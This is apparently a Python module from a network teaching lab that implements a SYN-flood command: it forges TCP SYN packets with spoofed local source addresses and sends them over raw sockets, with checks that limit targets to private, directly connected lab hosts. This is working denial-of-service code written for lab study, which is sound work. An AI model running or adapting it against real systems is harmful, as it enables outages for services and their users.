"""`lab/flood`: sends SYNs with forged source addresses, and answers nothing.

The addresses are those of the network on which the server is, so every SYN-ACK stays on it. Refuses
to send anywhere but to a private IPv4 address on a network that this host is on too. Needs root.

Exit status: 0 if all SYNs were sent, 2 for wrong usage, 3 for a failure of the lab.
"""

from __future__ import annotations

import argparse
import ipaddress
import itertools
import random
import socket
import struct
import sys
from collections.abc import Iterator
from pathlib import Path

from lab.arguments import port, positive
from lab.errors import LabError
from lab.hang import PORT, resolve
from lab.network.segments import SynTemplate
from lab.records import endpoint

SYNS = 250
ADDRESSES_USED = 250
FIRST_PORT = 1024
PORTS = 60_000
ROUTES = Path("/proc/thread-self/net/route")


def connected_network(routes: str, server: str) -> ipaddress.IPv4Network:
    """The network of the server, if it needs no gateway; `routes` is the text of /proc/net/route.

    Raises LabError for any server to which forged packets must not be sent.
    """
    if ":" in server:
        raise _refused(server, "it is an IPv6 address")
    address = ipaddress.IPv4Address(server)
    if not address.is_private or address.is_loopback:
        raise _refused(server, "it is not an address of a private network")
    found = [(network, gateway) for network, gateway in _routes(routes) if address in network]
    if not found:
        raise _refused(server, "there is no route to it")
    network, gateway = max(found, key=lambda one: one[0].prefixlen)
    if gateway:
        raise _refused(server, "it is behind a gateway")
    return network


def forged_syns(
    network: ipaddress.IPv4Network, real: set[str], server: str, server_port: int, count: int
) -> Iterator[bytes]:
    """Complete IP packets from the network's addresses in turn, except those of real hosts.

    The source port is higher by 1 from SYN to SYN, until it begins anew.
    """
    others = (str(one) for one in network.hosts())
    sources = list(itertools.islice((one for one in others if one not in real), ADDRESSES_USED))
    if not sources:
        raise _refused(server, f"{network} has no other address")
    template = SynTemplate(server, server_port)
    for number, source in zip(range(count), itertools.cycle(sources)):
        packed = ipaddress.IPv4Address(source).packed
        yield template.packet(packed, FIRST_PORT + number % PORTS, random.getrandbits(32))


def _routes(text: str) -> Iterator[tuple[ipaddress.IPv4Network, bool]]:
    """Each route's destination, and whether it has a gateway (proc_pid_net(5): `route`)."""
    for line in text.splitlines()[1:]:
        _, destination, gateway, _, _, _, _, mask, *_ = line.split()
        # The kernel prints a big-endian number as if it were the machine's own.
        packed = (struct.pack("=I", int(word, 16)) for word in (destination, mask))
        address, netmask = (ipaddress.IPv4Address(one) for one in packed)
        yield ipaddress.IPv4Network(f"{address}/{netmask}"), int(gateway, 16) != 0


def _refused(server: str, why: str) -> LabError:
    return LabError(
        f"no forged packet is sent to {server}",
        why,
        "name a host of the lab, on the same network as this one",
    )


def _own_address(server: str) -> str:
    """The address from which this host reaches the server; nothing is sent."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.connect((server, PORT))
        return str(one.getsockname()[0])


def run(arguments: argparse.Namespace) -> int:
    """Send the SYNs; returns the exit status. Raises LabError."""
    server = resolve(arguments.host, arguments.port)
    network = connected_network(ROUTES.read_text("ascii"), server)
    real = {server, _own_address(server)}
    try:
        raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError as error:
        raise LabError("cannot forge packets", str(error), "run it as root") from error
    with raw:
        for syn in forged_syns(network, real, server, arguments.port, arguments.syns):
            raw.sendto(syn, (server, 0))
    said = f"sent {arguments.syns} SYNs with addresses of {network}"
    print(f"{said} to {endpoint(server, arguments.port)}")
    return 0


def add_arguments(parser: argparse.ArgumentParser) -> None:
    """Add the options of this command."""
    parser.add_argument("host", metavar="HOST", help="the server's name or address")
    parser.add_argument(
        "port", metavar="PORT", nargs="?", type=port, default=PORT, help=f"default {PORT}"
    )
    parser.add_argument(
        "-n",
        dest="syns",
        metavar="SYNS",
        type=positive,
        default=SYNS,
        help=f"number of SYNs; default {SYNS}",
    )


def main() -> int:
    """The command. It needs nothing but Python, so that a client machine can run it."""
    parser = argparse.ArgumentParser(
        prog="flood", description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    add_arguments(parser)
    try:
        return run(parser.parse_args())
    except LabError as error:
        print(*error.lines(), sep="\n", file=sys.stderr)
        return error.exit_status
